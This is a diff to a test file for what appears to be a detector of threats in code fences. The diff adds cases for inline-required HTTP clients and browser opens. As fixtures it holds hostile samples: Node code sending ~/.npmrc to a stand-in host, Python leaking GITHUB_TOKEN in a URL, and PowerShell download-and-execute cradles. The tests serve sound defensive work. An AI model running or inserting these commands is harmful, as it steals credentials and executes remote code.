@@ -302,6 +302,11 @@ describe('behaviour read through disguises', () => {
     expect(threats(fence('csharp', 'Process.Start("powershell", "-nop -c iex(iwr https://x.example.net/a.ps1)");'))).toEqual(['threat/download-exec 8:1 error']);
     expect(threats(fence('ruby', 'puts `git status`\nsystem("bundle", "install")'))).toEqual([]);
   });
+  it('counts inline-required clients and opened browsers as sinks', () => {
+    expect(threats(fence('js', 'const { execSync } = require("child_process");\nconst t = execSync("cat ~/.npmrc").toString();\nrequire("https").get("https://x.example.net/?d=" + encodeURIComponent(t));'))).toEqual(['threat/exfiltration 10:1 error']);
+    expect(threats(fence('python', 'import os, webbrowser\nwebbrowser.open("https://x.example.net/?t=" + os.environ["GITHUB_TOKEN"])'))).toEqual(['threat/exfiltration 9:1 error']);
+    expect(threats(fence('bash', 'open https://github.com/settings/tokens'))).toEqual([]);
+  });
   it('reads the PowerShell download cradle in command mode and assemblies loaded from downloads', () => {
     expect(threats(fence('powershell', "iex (New-Object Net.WebClient).DownloadString('https://x.example.net/a.ps1')"))).toEqual(['threat/download-exec 8:1 error']);
     expect(threats(fence('powershell', '$b = (iwr https://x.example.net/p.bin).Content\n[System.Reflection.Assembly]::Load($b)'))).toEqual(['threat/download-exec 9:1 error']);
